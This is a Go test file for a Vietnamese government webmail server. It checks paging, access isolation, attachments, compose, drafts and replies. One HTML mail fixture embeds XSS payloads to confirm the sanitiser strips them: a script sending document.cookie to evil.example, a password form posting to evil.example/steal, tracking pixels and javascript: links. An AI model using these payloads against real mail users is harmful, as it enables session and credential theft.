package web

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	gomessage "github.com/emersion/go-message"
	"github.com/emersion/go-message/mail"

	"govmail/internal/config"
	"govmail/internal/delivery"
	"govmail/internal/store"
)

// loggedIn is an env with one account signed in.
func loggedIn(t *testing.T) (*env, *browser, *store.Account) {
	t.Helper()
	e := newEnv(t, envOptions{})
	a := e.addAccount("hoant.skhcn@sonla.gov.vn", "Nguyễn Thị Hoa", goodPassword, false)
	b := e.browser()
	b.login(a.Address, goodPassword)
	return e, b, a
}

func TestFolderListUnreadCountsAndPaging(t *testing.T) {
	e := newEnv(t, envOptions{})
	a := e.addAccount("hoant.skhcn@sonla.gov.vn", "Nguyễn Thị Hoa", goodPassword, false)
	inbox := e.mailbox(a, "INBOX")
	// 120 messages, one a minute; their arrival is their date.
	for i := 1; i <= 120; i++ {
		e.clk.Advance(time.Minute)
		e.deliver(a, fmt.Sprintf("From: Phòng %d <p%d@sonla.gov.vn>\nSubject: Thư số %03d\n\nNội dung %d\n", i, i, i, i))
	}
	b := e.browser()
	b.login(a.Address, goodPassword)
	r := b.get("/mail/" + itoa(inbox.ID))
	r.wantStatus(t, http.StatusOK)
	mustContain(t, r.body, "1–50 trong 120 thư", "Trang 1 / 3", ">120<", "Thư số 120", "Thư số 071", "Phòng 120")
	mustNotContain(t, r.body, "Thư số 070", "‹ Mới hơn</a>")
	// Newest first.
	if strings.Index(r.body, "Thư số 120") > strings.Index(r.body, "Thư số 119") {
		t.Error("not sorted newest first")
	}
	r = b.get("/mail/" + itoa(inbox.ID) + "?page=3")
	mustContain(t, r.body, "101–120 trong 120 thư", "Thư số 001", "Thư số 020")
	mustNotContain(t, r.body, "Thư số 021")
	// Out of range pages clamp.
	r = b.get("/mail/" + itoa(inbox.ID) + "?page=99")
	mustContain(t, r.body, "Trang 3 / 3")

	// Reading one lowers the count (the cache follows the store's change feed).
	msgs := e.messages(inbox)
	b.get(fmt.Sprintf("/mail/%d/%d", inbox.ID, msgs[0].UID))
	r = b.get("/mail/" + itoa(inbox.ID))
	mustContain(t, r.body, ">119<")
	// A delivery by another path shows at once.
	e.deliver(a, "Subject: Mới đến\n\nx\n")
	r = b.get("/mail/" + itoa(inbox.ID))
	mustContain(t, r.body, "Mới đến", ">120<", "1–50 trong 121 thư")
}

func TestOtherAccountsFolderIsNotFound(t *testing.T) {
	e, b, _ := loggedIn(t)
	other := e.addAccount("ketoan.stc@sonla.gov.vn", "Kế toán", goodPassword, false)
	uid := e.deliver(other, "Subject: Bí mật\n\nkhông được đọc\n")
	oi := e.mailbox(other, "INBOX")
	for _, p := range []string{
		"/mail/" + itoa(oi.ID),
		fmt.Sprintf("/mail/%d/%d", oi.ID, uid),
		fmt.Sprintf("/mail/%d/%d/raw", oi.ID, uid),
		fmt.Sprintf("/mail/%d/%d/body", oi.ID, uid),
		fmt.Sprintf("/mail/%d/%d/part/1", oi.ID, uid),
		fmt.Sprintf("/compose?forward=%d:%d", oi.ID, uid),
	} {
		r := b.get(p)
		r.wantStatus(t, http.StatusNotFound)
		mustNotContain(t, r.body, "Bí mật", "không được đọc")
	}
	r := b.post(fmt.Sprintf("/mail/%d/action", oi.ID), url.Values{"op": {"delete"}, "uid": {itoa(int64(uid))}})
	r.wantStatus(t, http.StatusNotFound)
	if len(e.messages(oi)) != 1 {
		t.Error("another account's message was touched")
	}
}

const plainVietnamese = `From: =?UTF-8?B?VHLhuqduIFbEg24gQsOsbmg=?= <binh.snv@sonla.gov.vn>
To: hoant.skhcn@sonla.gov.vn
Subject: =?UTF-8?Q?B=C3=A1o_c=C3=A1o_qu=C3=BD_I?=
Date: Mon, 09 Mar 2026 08:30:00 +0700
Message-ID: <bc-quy-1@sonla.gov.vn>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Kính gửi chị Hoa,
<script>alert("x")</script> & <b>không phải HTML</b>
Xem https://sonla.gov.vn/bao-cao?id=1&a=2 nhé.
`

func TestReadPlainTextMarksSeenAndEscapes(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	uid := e.deliver(a, plainVietnamese)
	r := b.get(fmt.Sprintf("/mail/%d/%d", inbox.ID, uid))
	r.wantStatus(t, http.StatusOK)
	mustContain(t, r.body, "Báo cáo quý I", "Trần Văn Bình &lt;binh.snv@sonla.gov.vn&gt;", "Kính gửi chị Hoa,",
		"&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; &lt;b&gt;không phải HTML&lt;/b&gt;",
		`<a href="https://sonla.gov.vn/bao-cao?id=1&amp;a=2" target="_blank" rel="noopener noreferrer nofollow">`,
		"Thứ hai, 09/03/2026 08:30", "Trả lời", "Chuyển tiếp", "Tải thư gốc")
	mustNotContain(t, r.body, "<script>alert", "<iframe")
	msgs := e.messages(inbox)
	if !slices.Contains(msgs[0].Flags, `\Seen`) {
		t.Error("opening did not mark read")
	}
	// Mark unread again.
	r = b.post(fmt.Sprintf("/mail/%d/action", inbox.ID), url.Values{"op": {"unread"}, "uid": {itoa(int64(uid))}})
	mustContain(t, r.body, "Đã cập nhật.")
	if slices.Contains(e.messages(inbox)[0].Flags, `\Seen`) {
		t.Error("mark unread failed")
	}
	// Flag.
	b.post(fmt.Sprintf("/mail/%d/action", inbox.ID), url.Values{"op": {"flag"}, "uid": {itoa(int64(uid))}, "return": {fmt.Sprintf("/mail/%d/%d", inbox.ID, uid)}})
	if !slices.Contains(e.messages(inbox)[0].Flags, `\Flagged`) {
		t.Error("flag failed")
	}
}

const htmlMail = `From: "Văn phòng UBND" <vp@sonla.gov.vn>
To: hoant.skhcn@sonla.gov.vn
Subject: =?UTF-8?Q?Th=C3=B4ng_b=C3=A1o_h=E1=BB=8Dp?=
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Thông báo họp (bản chữ)
--alt
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(https://track.example/css.gif)}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="alert(1)"><h1 style="color:#b3261e">Thông báo họp</h1>
<p>Kính mời <b>đồng chí</b> dự họp.</p><script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://track.example/pixel.gif?u=hoant"><img src="cid:logo@sonla">
<a href="javascript:alert(2)">bấm vào đây</a> <a href="https://sonla.gov.vn/">Cổng thông tin</a>
<form action="https://evil.example/steal"><input name="pw" type="password"></form>
<iframe src="https://evil.example/"></iframe><svg onload="alert(3)"><script>alert(4)</script></svg>
</body></html>
--alt--
--rel
Content-Type: image/png
Content-ID: <logo@sonla>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==
--rel--
`

func TestHTMLMailSanitisedInSandboxedFrame(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	uid := e.deliver(a, htmlMail)
	base := fmt.Sprintf("/mail/%d/%d", inbox.ID, uid)
	r := b.get(base)
	r.wantStatus(t, http.StatusOK)
	mustContain(t, r.body, "Thông báo họp", `<iframe class="mail-frame" src="`+base+`/body"`,
		`sandbox="allow-same-origin allow-popups allow-popups-to-escape-sandbox"`,
		"Đã chặn 1 hình ảnh từ bên ngoài", `href="`+base+`?images=1"`)
	if strings.Contains(r.body, "allow-scripts") {
		t.Error("frame allows scripts")
	}
	// The plain alternative is neither shown nor listed as an attachment.
	mustNotContain(t, r.body, "bản chữ", "Tệp đính kèm")

	r = b.get(base + "/body")
	r.wantStatus(t, http.StatusOK)
	csp := r.header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "img-src 'self' data:;", "sandbox allow-same-origin allow-popups", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("body CSP %q lacks %q", csp, want)
		}
	}
	if strings.Contains(csp, "script-src") || strings.Contains(csp, "allow-scripts") {
		t.Errorf("body CSP allows script: %q", csp)
	}
	if r.header.Get("X-Frame-Options") != "SAMEORIGIN" {
		t.Errorf("X-Frame-Options %q", r.header.Get("X-Frame-Options"))
	}
	mustContain(t, r.body, "Kính mời <b>đồng chí</b> dự họp.", `style="color: #b3261e"`, `src="`+base+`/part/2?inline=1"`,
		`href="https://sonla.gov.vn/"`, "bấm vào đây", `data-blocked="1"`)
	low := strings.ToLower(r.body[strings.Index(r.body, "<body>"):])
	for _, bad := range []string{"<script", "onload", "javascript:", "track.example", "evil.example", "<form", "<iframe", "<svg", "<meta", "url(", "document.cookie"} {
		if strings.Contains(low, bad) {
			t.Errorf("body holds %q:\n%s", bad, r.body)
		}
	}
	// Our base element only sets the link target; it has no href.
	if regexp.MustCompile(`<base[^>]*href`).MatchString(low) {
		t.Error("a base href survived")
	}

	// "Show images" lets remote images load for this message only.
	r = b.get(base + "/body?images=1")
	mustContain(t, r.body, `src="https://track.example/pixel.gif?u=hoant"`)
	if !strings.Contains(r.header.Get("Content-Security-Policy"), "img-src 'self' data: https: http:") {
		t.Errorf("images CSP %q", r.header.Get("Content-Security-Policy"))
	}
	r = b.get(base + "?images=1")
	mustContain(t, r.body, `src="`+base+`/body?images=1"`)
	mustNotContain(t, r.body, "Đã chặn")

	// The cid: image is served inline, as an image, sandboxed.
	r = b.get(base + "/part/2?inline=1")
	r.wantStatus(t, http.StatusOK)
	if r.header.Get("Content-Type") != "image/png" || r.header.Get("Content-Disposition") != "inline" || r.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("inline image headers %v", r.header)
	}
	if !bytes.HasPrefix(r.raw, []byte("\x89PNG")) {
		t.Error("inline image bytes")
	}
}

func multipartWithAttachments(t *testing.T, subject string, files map[string][]byte) string {
	t.Helper()
	var buf bytes.Buffer
	var h mail.Header
	h.SetAddressList("From", []*mail.Address{{Name: "Sở Tài chính", Address: "stc@sonla.gov.vn"}})
	h.SetAddressList("To", []*mail.Address{{Address: "hoant.skhcn@sonla.gov.vn"}})
	h.SetSubject(subject)
	h.SetDate(testStart)
	h.SetMessageID("dinh-kem@sonla.gov.vn")
	mw, err := mail.CreateWriter(&buf, h)
	if err != nil {
		t.Fatal(err)
	}
	var th mail.InlineHeader
	th.Set("Content-Type", "text/plain; charset=utf-8")
	tw, _ := mw.CreateSingleInline(th)
	io.WriteString(tw, "Gửi kèm tài liệu.")
	tw.Close()
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		var ah mail.AttachmentHeader
		ah.Set("Content-Type", "application/octet-stream")
		ah.Set("Content-Disposition", "attachment"+rfc2231Param("filename", n))
		w, _ := mw.CreateAttachment(ah)
		w.Write(files[n])
		w.Close()
	}
	mw.Close()
	return strings.ReplaceAll(buf.String(), "\r\n", "\n")
}

func TestAttachmentDownloadAndOriginal(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	pdf := append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte{0, 1, 2, 0xff}, 300)...)
	page := []byte("<html><script>alert(document.cookie)</script></html>")
	uid := e.deliver(a, multipartWithAttachments(t, "Tài liệu đính kèm", map[string][]byte{
		"Báo cáo tài chính quý I năm 2026 của Sở Tài chính tỉnh Sơn La.pdf": pdf,
		"trang.html": page,
	}))
	base := fmt.Sprintf("/mail/%d/%d", inbox.ID, uid)
	r := b.get(base)
	mustContain(t, r.body, "Tệp đính kèm (2)", "Báo cáo tài chính quý I năm 2026 của Sở Tài chính tỉnh Sơn La.pdf", "trang.html", `href="`+base+`/part/2"`)
	r = b.get("/mail/" + itoa(inbox.ID))
	mustContain(t, r.body, "có tệp đính kèm")

	r = b.get(base + "/part/2")
	r.wantStatus(t, http.StatusOK)
	if !bytes.Equal(r.raw, page) && !bytes.Equal(r.raw, pdf) {
		t.Fatal("attachment bytes differ")
	}
	for _, p := range []string{"2", "3"} {
		r = b.get(base + "/part/" + p)
		cd := r.header.Get("Content-Disposition")
		disp, params, err := mime.ParseMediaType(cd)
		if err != nil || disp != "attachment" {
			t.Fatalf("Content-Disposition %q: %v", cd, err)
		}
		if r.header.Get("Content-Type") != "application/octet-stream" || r.header.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.Contains(r.header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("part headers %v", r.header)
		}
		switch params["filename"] {
		case "Báo cáo tài chính quý I năm 2026 của Sở Tài chính tỉnh Sơn La.pdf":
			if !bytes.Equal(r.raw, pdf) {
				t.Error("pdf bytes differ")
			}
			if !strings.Contains(cd, `filename="Bao cao tai chinh quy I nam 2026 cua So Tai chinh tinh Son La.pdf"`) {
				t.Errorf("no ASCII fallback: %q", cd)
			}
		case "trang.html":
			// An HTML attachment is a download, never a page of our origin.
			if !bytes.Equal(r.raw, page) {
				t.Error("html bytes differ")
			}
		default:
			t.Errorf("filename %q", params["filename"])
		}
	}
	// N2: the original, byte for byte.
	r = b.get(base + "/raw")
	stored := e.messages(inbox)[0].Raw
	if !bytes.Equal(r.raw, stored) {
		t.Fatal("original download differs from the stored message")
	}
	if r.header.Get("Content-Type") != "message/rfc822" || !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment") {
		t.Errorf("raw headers %v", r.header)
	}
	r = b.get(base + "/part/9")
	r.wantStatus(t, http.StatusNotFound)
}

const smimeSigned = `From: ky.so@sonla.gov.vn
To: hoant.skhcn@sonla.gov.vn
Subject: =?UTF-8?Q?V=C4=83n_b=E1=BA=A3n_k=C3=BD_s=E1=BB=91?=
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig"

This is an S/MIME signed message

--sig
Content-Type: text/plain; charset=utf-8

Nội dung đã ký.
--sig
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAKCAMIIB
--sig--
`

func TestSMIMEMarkedAndOriginalIntact(t *testing.T) {
	e, b, a := loggedIn(t)
	inbox := e.mailbox(a, "INBOX")
	uid := e.deliver(a, smimeSigned)
	r := b.get("/mail/" + itoa(inbox.ID))
	mustContain(t, r.body, "S/MIME")
	r = b.get(fmt.Sprintf("/mail/%d/%d", inbox.ID, uid))
	mustContain(t, r.body, "Thư có chữ ký số S/MIME", "Nội dung đã ký.", "smime.p7s")
	r = b.get(fmt.Sprintf("/mail/%d/%d/raw", inbox.ID, uid))
	if !bytes.Equal(r.raw, e.messages(inbox)[0].Raw) || !bytes.Contains(r.raw, []byte("MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAKCAMIIB\r\n--sig--")) {
		t.Error("signed original altered")
	}
}

// parseStored reads a stored message for assertions.
func parseStored(t *testing.T, raw []byte) (mail.Header, string, map[string][]byte) {
	t.Helper()
	mr, err := mail.CreateReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	var text string
	files := map[string][]byte{}
	for {
		p, err := mr.NextPart()
		if err == io.EOF {
			break
		}
		if err != nil && !gomessage.IsUnknownCharset(err) {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(p.Body)
		switch h := p.Header.(type) {
		case *mail.InlineHeader:
			text += string(body)
		case *mail.AttachmentHeader:
			name, _ := h.Filename()
			files[name] = body
		}
	}
	return mr.Header, text, files
}

func TestComposeSendWithAttachmentArrives(t *testing.T) {
	e, b, a := loggedIn(t)
	bob := e.addAccount("binh.snv@sonla.gov.vn", "Trần Văn Bình", goodPassword, false)
	carol := e.addAccount("lan.stc@sonla.gov.vn", "Lê Thị Lan", goodPassword, false)
	b.get("/compose")
	doc := bytes.Repeat([]byte("Dữ liệu nhị phân \x00\x01\x02 "), 2000)
	r := b.postMultipart("/compose", url.Values{
		"to":      {"Trần Văn Bình <binh.snv@sonla.gov.vn>"},
		"bcc":     {"lan.stc@sonla.gov.vn"},
		"subject": {"Kế hoạch năm 2026 — bản dự thảo"},
		"body":    {"Kính gửi anh Bình,\nGửi anh bản dự thảo.\nTrân trọng."},
		"action":  {"send"},
	}, []upload{{"Kế hoạch năm 2026 (dự thảo).docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", doc}})
	r.wantStatus(t, http.StatusOK)
	mustContain(t, r.body, "Đã gửi thư.")

	got := e.messages(e.mailbox(bob, "INBOX"))
	if len(got) != 1 {
		t.Fatalf("recipient has %d messages", len(got))
	}
	h, text, files := parseStored(t, got[0].Raw)
	if s, _ := h.Subject(); s != "Kế hoạch năm 2026 — bản dự thảo" {
		t.Errorf("subject %q", s)
	}
	if from, _ := h.AddressList("From"); len(from) != 1 || from[0].Name != "Nguyễn Thị Hoa" || from[0].Address != a.Address {
		t.Errorf("from %v", from)
	}
	if !strings.Contains(text, "Kính gửi anh Bình,\r\nGửi anh bản dự thảo.") {
		t.Errorf("text %q", text)
	}
	if !bytes.Equal(files["Kế hoạch năm 2026 (dự thảo).docx"], doc) {
		t.Errorf("attachment lost or altered: %v", mapKeys(files))
	}
	if h.Get("Bcc") != "" {
		t.Error("Bcc reached a recipient")
	}
	if id, _ := h.MessageID(); !strings.HasSuffix(id, "@"+e.cfg.Hostname) {
		t.Errorf("Message-ID %q", id)
	}
	if _, err := h.Date(); err != nil {
		t.Errorf("Date: %v", err)
	}
	// Headers are 7-bit: RFC 2047 words, RFC 2231 file names.
	head := string(got[0].Raw[:bytes.Index(got[0].Raw, []byte("\r\n\r\n"))])
	for _, line := range strings.Split(head, "\r\n") {
		if len(line) > 998 {
			t.Errorf("header line of %d bytes", len(line))
		}
	}
	for _, c := range head {
		if c > 127 {
			t.Fatalf("8-bit header: %q", head)
		}
	}
	if !bytes.Contains(got[0].Raw, []byte("filename*0*=utf-8''")) {
		t.Error("long Vietnamese file name not in RFC 2231 continuations")
	}
	if !bytes.Contains(got[0].Raw, []byte("Received: from webmail")) {
		t.Error("no trace header from the delivery pipeline")
	}
	// Bcc recipient got it too.
	if n := len(e.messages(e.mailbox(carol, "INBOX"))); n != 1 {
		t.Errorf("bcc recipient has %d", n)
	}
	// The Sent copy keeps the Bcc and the same Message-ID.
	sent := e.messages(e.mailbox(a, "Sent"))
	if len(sent) != 1 {
		t.Fatalf("sent has %d", len(sent))
	}
	sh, _, sfiles := parseStored(t, sent[0].Raw)
	if bcc, _ := sh.AddressList("Bcc"); len(bcc) != 1 || bcc[0].Address != carol.Address {
		t.Errorf("sent copy bcc %v", bcc)
	}
	id1, _ := h.MessageID()
	id2, _ := sh.MessageID()
	if id1 != id2 {
		t.Errorf("message ids differ: %q %q", id1, id2)
	}
	if !slices.Contains(sent[0].Flags, `\Seen`) || len(sfiles) != 1 {
		t.Errorf("sent copy flags %v files %d", sent[0].Flags, len(sfiles))
	}
	// The transaction log has one internal row per recipient, by the account.
	logs, err := e.st.SearchLog(context.Background(), store.LogFilter{Address: a.Address})
	if err != nil {
		t.Fatal(err)
	}
	if len(logs) != 2 || logs[0].Direction != "internal" || logs[0].AuthUser != a.Address {
		t.Errorf("log %+v", logs)
	}
	// The recipient reads it in webmail with the attachment listed.
	bb := e.browser()
	bb.login(bob.Address, goodPassword)
	bi := e.mailbox(bob, "INBOX")
	r = bb.get(fmt.Sprintf("/mail/%d/%d", bi.ID, got[0].UID))
	mustContain(t, r.body, "Kế hoạch năm 2026 — bản dự thảo", "Kế hoạch năm 2026 (dự thảo).docx", "Nguyễn Thị Hoa")
}

func mapKeys(m map[string][]byte) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func TestComposeRefusesRemoteAndUnknownRecipients(t *testing.T) {
	e, b, a := loggedIn(t)
	b.get("/compose")
	r := b.postMultipart("/compose", url.Values{"to": {"ai@example.com, khongco@sonla.gov.vn"}, "subject": {"Thử"}, "body": {"x"}, "action": {"send"}}, nil)
	r.wantStatus(t, http.StatusUnprocessableEntity)
	mustContain(t, r.body, "Hiện chưa gửi được thư ra ngoài hệ thống thư công vụ của tỉnh", "ai@example.com",
		"Không có hộp thư khongco@sonla.gov.vn", `value="ai@example.com, khongco@sonla.gov.vn"`)
	r = b.postMultipart("/compose", url.Values{"to": {"không phải địa chỉ"}, "subject": {"Thử"}, "action": {"send"}}, nil)
	mustContain(t, r.body, "có địa chỉ không hợp lệ")
	r = b.postMultipart("/compose", url.Values{"subject": {"Thử"}, "action": {"send"}}, nil)
	mustContain(t, r.body, "Hãy nhập ít nhất một người nhận.")
	if n := len(e.messages(e.mailbox(a, "Sent"))); n != 0 {
		t.Errorf("refused message in Sent: %d", n)
	}
}

// With an error and uploaded files, the message is kept as a draft so the files are
// not lost.
func TestComposeErrorKeepsUploadsAsDraft(t *testing.T) {
	e, b, a := loggedIn(t)
	b.get("/compose")
	r := b.postMultipart("/compose", url.Values{"to": {"ai@example.com"}, "subject": {"Có tệp"}, "action": {"send"}},
		[]upload{{"danh-sach.csv", "text/csv", []byte("stt,ten\n1,Hoa\n")}})
	r.wantStatus(t, http.StatusUnprocessableEntity)
	mustContain(t, r.body, "Thư đã được lưu vào Thư nháp", "danh-sach.csv", `name="keep"`, `name="ref_kind" value="draft"`)
	drafts := e.messages(e.mailbox(a, "Drafts"))
	if len(drafts) != 1 {
		t.Fatalf("%d drafts", len(drafts))
	}
}

type recordingOutbound struct {
	from  string
	rcpts []string
	raw   []byte
}

func (o *recordingOutbound) Submit(_ context.Context, m OutboundMessage) error {
	o.from, o.rcpts, o.raw = m.From, m.Recipients, m.Raw
	return nil
}

func TestComposeRemoteThroughOutbound(t *testing.T) {
	out := &recordingOutbound{}
	e := newEnv(t, envOptions{outbound: out})
	a := e.addAccount("hoant.skhcn@sonla.gov.vn", "Nguyễn Thị Hoa", goodPassword, false)
	b := e.browser()
	b.login(a.Address, goodPassword)
	b.get("/compose")
	r := b.postMultipart("/compose", url.Values{"to": {"doitac@example.com"}, "bcc": {"an@example.org"}, "subject": {"Hợp tác"}, "body": {"x"}, "action": {"send"}}, nil)
	mustContain(t, r.body, "Đã gửi thư.")
	if out.from != a.Address || len(out.rcpts) != 2 || bytes.Contains(out.raw, []byte("Bcc:")) {
		t.Errorf("outbound got %q %v bcc=%v", out.from, out.rcpts, bytes.Contains(out.raw, []byte("Bcc:")))
	}
}

// R11.5: an upload over the message size is refused before it is read, in Vietnamese.
func TestComposeTooLarge(t *testing.T) {
	e := newEnv(t, envOptions{config: func(c *config.Config) { c.SMTP.MaxMessageBytes = 64 << 10 }})
	a := e.addAccount("hoant.skhcn@sonla.gov.vn", "Nguyễn Thị Hoa", goodPassword, false)
	e.addAccount("binh.snv@sonla.gov.vn", "Trần Văn Bình", goodPassword, false)
	b := e.browser()
	b.login(a.Address, goodPassword)
	r := b.get("/compose")
	mustContain(t, r.body, `data-max-bytes="65536"`, "Tổng dung lượng thư tối đa 64 KB.")
	r = b.postMultipart("/compose", url.Values{"to": {"binh.snv@sonla.gov.vn"}, "subject": {"Lớn"}, "action": {"send"}},
		[]upload{{"lon.bin", "application/octet-stream", bytes.Repeat([]byte("x"), 100<<10)}})
	r.wantStatus(t, http.StatusRequestEntityTooLarge)
	mustContain(t, r.body, "Thư vượt quá dung lượng tối đa cho phép là 64 KB")
	// Under the upload limit but over it once base64-encoded: refused too.
	b.get("/compose")
	r = b.postMultipart("/compose", url.Values{"to": {"binh.snv@sonla.gov.vn"}, "subject": {"Vừa"}, "action": {"send"}},
		[]upload{{"vua.pdf", "application/pdf", bytes.Repeat([]byte("y"), 55<<10)}})
	r.wantStatus(t, http.StatusUnprocessableEntity)
	mustContain(t, r.body, "<li>Thư vượt quá dung lượng tối đa")
	if n := len(e.messages(e.mailbox(a, "Sent"))); n != 0 {
		t.Errorf("oversized message sent")
	}
}

func TestDraftSaveContinueSend(t *testing.T) {
	e, b, a := loggedIn(t)
	bob := e.addAccount("binh.snv@sonla.gov.vn", "Trần Văn Bình", goodPassword, false)
	drafts := e.mailbox(a, "Drafts")
	b.get("/compose")
	r := b.postMultipart("/compose", url.Values{"to": {"binh.snv@sonla.gov.vn"}, "cc": {""}, "bcc": {"hoant.skhcn@sonla.gov.vn"},
		"subject": {"Nháp: tờ trình"}, "body": {"Đang viết dở…"}, "action": {"save"}},
		[]upload{{"tờ trình.odt", "application/vnd.oasis.opendocument.text", []byte("odt-bytes")}})
	r.wantStatus(t, http.StatusOK)
	mustContain(t, r.body, "Đã lưu thư nháp.", "Nháp: tờ trình")
	ds := e.messages(drafts)
	if len(ds) != 1 || !slices.Contains(ds[0].Flags, `\Draft`) {
		t.Fatalf("drafts %+v", ds)
	}
	r = b.get(fmt.Sprintf("/mail/%d/%d", drafts.ID, ds[0].UID))
	mustContain(t, r.body, "Tiếp tục soạn")
	r = b.get(fmt.Sprintf("/compose?draft=%d:%d", drafts.ID, ds[0].UID))
	mustContain(t, r.body, `value="binh.snv@sonla.gov.vn"`, `value="hoant.skhcn@sonla.gov.vn"`, `value="Nháp: tờ trình"`, "Đang viết dở…", "tờ trình.odt")
	// Save again replaces the draft.
	r = b.postMultipart("/compose", url.Values{"to": {"binh.snv@sonla.gov.vn"}, "subject": {"Nháp: tờ trình (2)"}, "body": {"Viết tiếp."},
		"action": {"save"}, "ref_kind": {"draft"}, "ref_mb": {itoa(drafts.ID)}, "ref_uid": {itoa(int64(ds[0].UID))}, "keep": {"2"}}, nil)
	ds = e.messages(drafts)
	if len(ds) != 1 {
		t.Fatalf("%d drafts after saving again", len(ds))
	}
	// Send from the draft: the draft goes, the attachment stays with the message.
	b.get(fmt.Sprintf("/compose?draft=%d:%d", drafts.ID, ds[0].UID))
	r = b.postMultipart("/compose", url.Values{"to": {"binh.snv@sonla.gov.vn"}, "subject": {"Tờ trình"}, "body": {"Hoàn chỉnh."},
		"action": {"send"}, "ref_kind": {"draft"}, "ref_mb": {itoa(drafts.ID)}, "ref_uid": {itoa(int64(ds[0].UID))}, "keep": {"2"}}, nil)
	mustContain(t, r.body, "Đã gửi thư.")
	if n := len(e.messages(drafts)); n != 0 {
		t.Errorf("%d drafts after sending", n)
	}
	got := e.messages(e.mailbox(bob, "INBOX"))
	_, _, files := parseStored(t, got[0].Raw)
	if string(files["tờ trình.odt"]) != "odt-bytes" {
		t.Errorf("draft attachment not sent: %v", mapKeys(files))
	}
}

func TestReplyReplyAllForward(t *testing.T) {
	e, b, a := loggedIn(t)
	bob := e.addAccount("binh.snv@sonla.gov.vn", "Trần Văn Bình", goodPassword, false)
	carol := e.addAccount("lan.stc@sonla.gov.vn", "Lê Thị Lan", goodPassword, false)
	inbox := e.mailbox(a, "INBOX")
	orig := "From: =?UTF-8?B?VHLhuqduIFbEg24gQsOsbmg=?= <binh.snv@sonla.gov.vn>\nTo: hoant.skhcn@sonla.gov.vn, lan.stc@sonla.gov.vn\n" +
		"Subject: =?UTF-8?Q?L=E1=BB=8Bch_c=C3=B4ng_t=C3=A1c?=\nMessage-ID: <lich-1@sonla.gov.vn>\nDate: Mon, 09 Mar 2026 08:30:00 +0700\n" +
		"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\nLịch tuần sau.\n" +
		"--b\nContent-Type: application/pdf\nContent-Disposition: attachment; filename=\"lich.pdf\"\nContent-Transfer-Encoding: base64\n\n" +
		base64.StdEncoding.EncodeToString([]byte("%PDF-lich")) + "\n--b--\n"
	uid := e.deliver(a, orig)

	r := b.get(fmt.Sprintf("/compose?reply=%d:%d", inbox.ID, uid))
	mustContain(t, r.body, `value="Trần Văn Bình &lt;binh.snv@sonla.gov.vn&gt;"`, `value="Re: Lịch công tác"`, "&gt; Lịch tuần sau.",
		"Vào Thứ hai, 09/03/2026 08:30, Trần Văn Bình &lt;binh.snv@sonla.gov.vn&gt; đã viết:")
	r = b.get(fmt.Sprintf("/compose?replyall=%d:%d", inbox.ID, uid))
	mustContain(t, r.body, `value="Trần Văn Bình &lt;binh.snv@sonla.gov.vn&gt;, lan.stc@sonla.gov.vn"`)
	r = b.postMultipart("/compose", url.Values{"to": {"Trần Văn Bình <binh.snv@sonla.gov.vn>, lan.stc@sonla.gov.vn"}, "subject": {"Re: Lịch công tác"},
		"body": {"Đã nhận."}, "action": {"send"}, "ref_kind": {"replyall"}, "ref_mb": {itoa(inbox.ID)}, "ref_uid": {itoa(int64(uid))}}, nil)
	mustContain(t, r.body, "Đã gửi thư.")
	bm := e.messages(e.mailbox(bob, "INBOX"))
	h, _, _ := parseStored(t, bm[0].Raw)
	if irt, _ := h.MsgIDList("In-Reply-To"); len(irt) != 1 || irt[0] != "lich-1@sonla.gov.vn" {
		t.Errorf("In-Reply-To %v", irt)
	}
	if n := len(e.messages(e.mailbox(carol, "INBOX"))); n != 1 {
		t.Errorf("reply-all: carol has %d", n)
	}
	if !slices.Contains(e.messages(inbox)[0].Flags, `\Answered`) {
		t.Error("original not marked answered")
	}

	r = b.get(fmt.Sprintf("/compose?forward=%d:%d", inbox.ID, uid))
	mustContain(t, r.body, `value="Fwd: Lịch công tác"`, "---------- Thư chuyển tiếp ----------", "lich.pdf", `name="keep" value="2" checked`)
	r = b.postMultipart("/compose", url.Values{"to": {"lan.stc@sonla.gov.vn"}, "subject": {"Fwd: Lịch công tác"},
